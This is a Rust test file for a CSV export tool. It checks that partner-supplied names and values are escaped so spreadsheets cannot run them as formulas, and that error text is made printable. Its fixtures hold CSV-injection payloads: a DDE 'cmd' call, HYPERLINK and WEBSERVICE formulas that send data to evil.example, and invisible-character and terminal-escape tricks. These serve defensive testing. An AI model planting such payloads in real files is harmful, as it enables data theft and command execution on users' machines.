//! Partner strings are data everywhere: a report built from a partner whose population names,
//! field names and field values are formulas comes out guarded in both CSV flavours, and the
//! partner's strings in error texts are made printable.

use overlap::csv_out::Flavour;
use overlap::ingest::{read, Dataset, NamePolicy, Options};
use overlap::model::{FieldRows, PopulationRole, SharedValues};
use overlap::protocol::MessageError;
use overlap::report::{Population, Report};

/// OWASP's list, as the test's own oracle: could a spreadsheet take this cell for a formula?
fn runs_as_formula(cell: &str) -> bool {
    let invisible = |c: char| matches!(c, '\u{200B}'..='\u{200F}' | '\u{2060}' | '\u{FEFF}' | '\u{202A}'..='\u{202E}' | '\u{2066}'..='\u{2069}');
    matches!(cell.chars().next(), Some('\t' | '\r' | '\n' | '\0'))
        || matches!(
            cell.chars().find(|&c| !(c.is_whitespace() || invisible(c))),
            Some('=' | '+' | '-' | '@' | '＝' | '＋' | '－' | '＠')
        )
}

fn my_export() -> Dataset {
    let csv = "Name,Website,Phone,Balance\n\
               Débora AB,debora.se,+46 70 123 45 67,-12.5\n\
               \"=cmd|' /C calc'!A0\",evilcorp.com,-1+1,@SUM(A1)\n\
               \" =2+3\",acme.com,+1 (555) 010-9999,+A1\n\
               Nobody,nobody.net,,\n";
    let mut o = Options::new();
    o.name_keys(NamePolicy::Never);
    read(csv.as_bytes(), &o).unwrap()
}

/// A partner whose every string is hostile; it matches my first three rows.
fn hostile_report(d: &Dataset) -> Report {
    let partner_pops =
        ["=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")", "  @SUM(A1)", "＋A1", "-2+3", "\u{200B}=1", "Prospects"];
    let partner_pops: Vec<Population> =
        partner_pops.iter().map(|n| Population { name: n.to_string(), size: 10, role: PopulationRole::Other }).collect();
    let my_pops: Vec<Population> =
        d.populations().iter().map(|n| Population { name: n.clone(), size: 4, role: PopulationRole::Other }).collect();
    let matched = ["domain:debora.se", "domain:evilcorp.com", "domain:acme.com"];
    let key_matches: Vec<Option<u16>> =
        d.keys().iter().map(|k| matched.contains(&k.to_string().as_str()).then_some(0b11_1111)).collect();
    let mut r = Report::from_key_matches(d, my_pops, partner_pops, 40, &key_matches);
    let shared = SharedValues {
        names: vec!["=Owner".into(), "Phone".into()],
        entries: d
            .keys()
            .iter()
            .enumerate()
            .filter(|(_, k)| matched.contains(&k.to_string().as_str()))
            .map(|(i, _)| {
                let mut rows = FieldRows::new(2);
                rows.push(["=WEBSERVICE(\"http://evil.example\")", "+46 8 123 456 78"]);
                (i as u32, rows)
            })
            .collect(),
    };
    r.attach_partner_fields(d, &shared);
    r
}

fn parse(bytes: &[u8], flavour: Flavour) -> Vec<Vec<String>> {
    let body = match flavour {
        Flavour::Excel => bytes.strip_prefix("\u{FEFF}".as_bytes()).expect("Excel: a BOM"),
        Flavour::CrmImport => {
            assert!(!bytes.starts_with("\u{FEFF}".as_bytes()), "CRM import: no BOM");
            bytes
        }
    };
    let mut rdr = csv::ReaderBuilder::new().has_headers(false).flexible(true).from_reader(body);
    rdr.records().map(|r| r.unwrap().iter().map(String::from).collect()).collect()
}

#[test]
fn a_hostile_partner_comes_out_guarded() {
    let d = my_export();
    let r = hostile_report(&d);
    assert_eq!(r.matches.len(), 3);
    let exempt = ["+46 70 123 45 67", "-12.5", "+1 (555) 010-9999", "+46 8 123 456 78"];
    for flavour in [Flavour::Excel, Flavour::CrmImport] {
        let report = parse(&r.to_csv_for(&d, flavour), flavour);
        let matrix = parse(&r.matrix_csv_for(flavour), flavour);
        for cell in report.iter().chain(&matrix).flatten() {
            let allowed = flavour == Flavour::CrmImport && exempt.contains(&cell.as_str());
            assert!(!runs_as_formula(cell) || allowed, "{flavour:?}: {cell:?} would run");
        }
        // The partner's population names, as the matrix header and in the report's cells.
        assert_eq!(
            matrix[0][1..],
            ["'=HYPERLINK(\"http://evil.example/?\"&A2,\"open\")", "'  @SUM(A1)", "'＋A1", "'-2+3", "'\u{200B}=1", "Prospects"]
        );
        let header = &report[0];
        assert_eq!(header[header.len() - 2..], ["partner_=Owner", "partner_Phone"]);
        let pops = header.iter().position(|h| h == "overlap_partner_populations").unwrap();
        assert!(report[1..].iter().all(|row| row[pops].starts_with("'=HYPERLINK(")), "{report:?}");
        // The partner's values and my own cells.
        let row = |name: &str| report.iter().find(|r| r[1] == name).unwrap_or_else(|| panic!("{name} in {report:?}"));
        assert_eq!(row("debora.se")[header.len() - 2], "'=WEBSERVICE(\"http://evil.example\")");
        assert_eq!(row("evilcorp.com")[0], "'=cmd|' /C calc'!A0");
        assert_eq!(row("evilcorp.com")[2..4], ["'-1+1", "'@SUM(A1)"]);
        assert_eq!(row("acme.com")[0], "' =2+3");
        assert_eq!(row("acme.com")[3], "'+A1");
        let (phone, number, partner_phone) = (&row("debora.se")[2], &row("debora.se")[3], &row("debora.se")[header.len() - 1]);
        match flavour {
            Flavour::Excel => {
                assert_eq!([phone, number, partner_phone], ["'+46 70 123 45 67", "'-12.5", "'+46 8 123 456 78"]);
                assert_eq!(row("acme.com")[2], "'+1 (555) 010-9999");
            }
            Flavour::CrmImport => {
                assert_eq!([phone, number, partner_phone], ["+46 70 123 45 67", "-12.5", "+46 8 123 456 78"]);
                assert_eq!(row("acme.com")[2], "+1 (555) 010-9999");
            }
        }
    }
    // The default is Excel.
    assert_eq!(r.to_csv(&d), r.to_csv_for(&d, Flavour::Excel));
    assert_eq!(r.matrix_csv(), r.matrix_csv_for(Flavour::Excel));
    assert_eq!(d.issues_csv(), d.issues_csv_for(Flavour::Excel));
}

#[test]
fn the_partners_version_is_printable_in_its_error() {
    let e = MessageError::NormalizationMismatch { mine: "overlap-norm/1".into(), theirs: "x\x1b[2J\u{202E}\n2".into() };
    let text = e.to_string();
    assert!(!text.contains('\x1b') && !text.contains('\u{202E}') && !text.contains('\n'), "{text:?}");
    assert!(text.contains("x\\u{1b}[2J\\u{202e}\\u{a}2"), "{text}");
    let long = MessageError::NormalizationMismatch { mine: "1".into(), theirs: "v".repeat(10_000) };
    assert!(long.to_string().len() < 600, "a long version is cut");
}
